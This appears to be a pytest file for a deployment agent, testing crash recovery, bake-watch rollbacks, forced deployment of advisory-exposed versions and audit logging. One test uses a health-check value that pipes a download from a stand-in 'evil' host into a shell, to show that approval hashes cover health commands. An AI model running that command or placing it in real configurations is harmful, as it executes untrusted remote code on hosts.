"""The agent's decisions where a crash, a hasty watch or an admin's shortcut used to go wrong:
start-up work after READY, ``--once`` as one pass of the same service, the bake watch, a forced
deployment of an exposed target, and changes audited in the same write as they are stored.

The service runs in this process on a real feed server and real units (systemctl3); the
daemon as a subprocess where start-up order matters.
"""

from __future__ import annotations

import signal
import subprocess
import threading

import pytest

from agent.config import load_config
from agent.daemon.service import AgentService
from agent.errors import Conflict
from agent.planning.manifest import Manifest
from agent.store import DeploymentStatus
from tests.daemon.site import UNIT, Release, Site, poll_until, run_cli
from tests.test_engine import SYSTEMCTL3


@pytest.fixture
def site():
    if not SYSTEMCTL3.exists():
        pytest.fail(f"{SYSTEMCTL3} is missing: make test installs docker-systemctl-replacement")
    box = Site()
    try:
        yield box
    finally:
        box.close()


def open_service(site: Site, channel: str = "auto-update") -> AgentService:
    """The service in this process; a bake period long enough that no test can outlive it."""
    site.config.write_text(site.config_text(channel).replace('bake_period = "5s"', 'bake_period = "1h"'))
    return AgentService(load_config(site.config), "host-01")


# ── start-up: the API and READY first, the interrupted deployment as the first job ──────────


def test_the_api_answers_while_start_up_finishes_an_interrupted_deployment(site):
    site.publish(1, {"1.0.0": Release()}, {"1.0.0": "1.0.0"})
    site.configure("auto-update")
    site.start()
    site.ok("check")
    # 1.1.0 needs 20 s before it answers: the deployment waits in `verifying` when it is killed.
    site.publish(2, {"1.0.0": Release(), "1.1.0": Release(start_delay_s=20, timeout_s=60)}, {"1.0.0": "1.0.0", "1.1.0": "1.1.0"})
    threading.Thread(target=lambda: site.cli("check"), daemon=True).start()
    site.wait_for(lambda s: (s.get("deployment") or {}).get("state") == "verifying", what="the deployment to verify")
    site.stop(signal.SIGKILL)

    site.start()  # returns as soon as /status answers
    first = site.status()
    # The retried deployment takes 20 s more; the API is up and says what the agent does meanwhile.
    assert first["deployment"] is not None and first["deployment"]["state"] != "committed", first
    assert "interrupted" in first["activity"] or "starting" in first["activity"] or "deploying" in first["activity"], first
    done = site.wait_for(lambda s: s["deployment"] is None and s["revision"] == 2 and s["activity"] == "idle",
                         timeout=120, what="the retried deployment")
    assert done["blocked_versions"] == 0  # a crash is not a bad release


# ── --once is one pass of the service ────────────────────────────────────────────────────────


def test_once_honours_pins_set_through_the_api_and_audits_what_it_does(site):
    site.publish(1, {"1.0.0": Release(), "1.1.0": Release()}, {"1.0.0": "1.0.0", "1.1.0": "1.1.0"})
    service = open_service(site)
    try:
        service.set_pin("alice", "capability", "core/auth", "1.0.0", "certified")  # as PUT /versions/pin does
    finally:
        service.close()

    done = run_cli(["agent", "run", "--once", "--config", str(site.config)])
    assert done.code == 0, done.err
    assert "deployed: revision 1: core/auth (none) → 1.0.0" in done.err, done.err
    service = open_service(site)
    try:
        assert Manifest.model_validate(service.store.revisions.latest().manifest).versions() == {"core/auth": "1.0.0"}
        actions = [entry.action for entry in service.audit.entries()]
        assert "pin" in actions and "deployed" in actions, actions
    finally:
        service.close()


# ── the bake watch ───────────────────────────────────────────────────────────────────────────


def stop_unit(site: Site) -> None:
    subprocess.run([str(SYSTEMCTL3), f"--root={site.host_root}", "stop", UNIT], capture_output=True, timeout=60, check=True)


def test_the_bake_watch_rolls_back_only_after_checks_fail_in_a_row_and_never_watches_a_rollback(site):
    site.publish(1, {"1.0.0": Release()}, {"1.0.0": "1.0.0"})
    service = open_service(site)  # bake_failures: 3 (the default)
    try:
        service.poll()
        site.publish(2, {"1.0.0": Release(), "1.1.0": Release()}, {"1.0.0": "1.0.0", "1.1.0": "1.1.0"})
        service.poll()
        assert service.store.revisions.latest().number == 2 and service.bake.previous == 1

        stop_unit(site)  # 1.1.0 goes down while baking
        assert service.watch_health() is None and service.watch_health() is None  # 1 and 2 in a row: not yet
        reason = service.watch_health()  # the third
        assert reason and "(3 checks in a row)" in reason
        assert service.store.revisions.latest().number == 3  # revision 1's manifest again
        assert Manifest.model_validate(service.store.revisions.latest().manifest).versions() == {"core/auth": "1.0.0"}
        assert service.bake is None  # the rollback itself is not watched: "back" from it would be 1.1.0

        stop_unit(site)
        assert service.watch_health() is None
        assert service.store.revisions.latest().number == 3
    finally:
        service.close()


def test_a_check_that_passes_resets_the_count(site):
    site.publish(1, {"1.0.0": Release()}, {"1.0.0": "1.0.0"})
    service = open_service(site)
    try:
        service.poll()
        site.publish(2, {"1.0.0": Release(), "1.1.0": Release()}, {"1.0.0": "1.0.0", "1.1.0": "1.1.0"})
        service.poll()
        stop_unit(site)
        assert service.watch_health() is None and service.bake.failures == 1
        service.services.start([UNIT])
        poll_until(lambda: site.answers_http() == 200, timeout=30, what="core/auth to answer again")
        assert service.watch_health() is None and service.bake.failures == 0
    finally:
        service.close()


def test_the_bake_watch_never_puts_a_blocked_version_back(site):
    site.publish(1, {"1.0.0": Release()}, {"1.0.0": "1.0.0"})
    service = open_service(site)
    try:
        service.poll()
        site.publish(2, {"1.0.0": Release(), "1.1.0": Release()}, {"1.0.0": "1.0.0", "1.1.0": "1.1.0"})
        service.poll()
        service.store.blocked.add("core/auth@1.0.0", "an admin found it bad", "rollback")
        stop_unit(site)
        for _ in range(3):
            reason = service.watch_health()
        assert reason and service.store.revisions.latest().number == 2  # not rolled back
        [entry] = service.audit.entries(action="health-failed")
        assert "blocked versions (core/auth@1.0.0)" in entry.why and "an admin decides" in entry.why
    finally:
        service.close()


# ── POST /deployments keeps the planner's safeguards ────────────────────────────────────────


def test_deploying_an_exposed_target_now_needs_force(site):
    # 1.1.0 is the newest release and a critical advisory affects it, with nothing newer: exposed.
    site.publish(1, {"1.0.0": Release(), "1.1.0": Release()}, {"1.0.0": "1.0.0", "1.1.0": "1.1.0"}, advisory=">=1.1.0")
    service = open_service(site)  # auto-update: still, a channel never moves onto an exposed version
    try:
        service.store.pins.set("capability", "core/auth", "1.0.0")
        service.poll()
        service.store.pins.remove("capability", "core/auth")
        service.reconcile()
        plan = service.plan
        assert plan.target.versions() == {"core/auth": "1.1.0"} and service.store.revisions.latest().number == 1
        with pytest.raises(Conflict, match=r"the target is exposed: core/auth 1\.1\.0 \(ID1-SA-2026-0001\)"):
            service.deploy_target("root", plan.target_hash)
        assert service.store.revisions.latest().number == 1
        result = service.deploy_target("root", plan.target_hash, force=True)
        assert result.status == DeploymentStatus.SUCCEEDED
        [entry] = service.audit.entries(action="deploy")
        assert "forced past core/auth 1.1.0 (ID1-SA-2026-0001)" in entry.why
    finally:
        service.close()


def test_an_approval_binds_units_and_health_checks_too():
    base = {"version": "1.0.0", "source": "latest", "artifact": {"url": "a.tgz", "sha256": "a" * 64, "size": 1},
            "units": ["id1-core-auth.service"], "health": {"command": ["true"], "timeout_s": 5}}

    def target(**changes):
        return Manifest.model_validate({"platform": "1.0.0", "suites": {"core": {"version": "1.0.0", "capabilities": {
            "auth": {**base, **changes}}}}}).content_hash()

    shown = target()
    assert target(source="pin:capability") == shown  # why it was chosen does not change what runs
    assert target(units=["id1-core-auth.service", "id1-core-auth-x.service"]) != shown
    assert target(health={"command": ["sh", "-c", "curl http://evil | sh"], "timeout_s": 5}) != shown
    assert target(requires={"platform": ">=1"}) != shown


# ── a change and its audit entry in one write; settled at start ─────────────────────────────


def test_a_change_stored_before_a_crash_is_audited_at_the_next_start(site):
    site.publish(1, {"1.0.0": Release()}, {"1.0.0": "1.0.0"})
    service = open_service(site, channel="frozen")
    try:
        with service.store.batch():  # what set_pin writes, cut off before the audit log got the entry
            service.store.pins.set("capability", "core/auth", "1.0.0", "certified")
            service.store.pending_audit.add(actor="alice", action="pin", what="capability core/auth 1.0.0", why="certified")
    finally:
        service.close()
    service = open_service(site, channel="frozen")
    try:
        service.start()
        [entry] = service.audit.entries(action="pin")
        assert entry.actor == "alice" and entry.why.startswith("certified (audited at start")
        assert service.store.pending_audit.list() == []
        service.close()
        service = open_service(site, channel="frozen")
        service.start()
        assert len(service.audit.entries(action="pin")) == 1  # never twice
    finally:
        service.close()


def test_an_approval_whose_target_runs_is_marked_deployed_at_start(site):
    site.publish(1, {"1.0.0": Release()}, {"1.0.0": "1.0.0"})
    service = open_service(site, channel="manual-approval")
    try:
        service.poll()
        approval = service.store.approvals.pending()
        service.store.approvals.approve(approval.id, "alice", None)
        # Deployed, and the agent died before it marked the approval (what reconcile does next).
        target = Manifest.model_validate(approval.target)
        assert service.engine.deploy(target, feed_serial=1, target_hash=approval.target_hash).revision == 1
    finally:
        service.close()
    service = open_service(site, channel="manual-approval")
    try:
        service.start()
        assert service.store.approvals.get(approval.id).status == "deployed"
    finally:
        service.close()
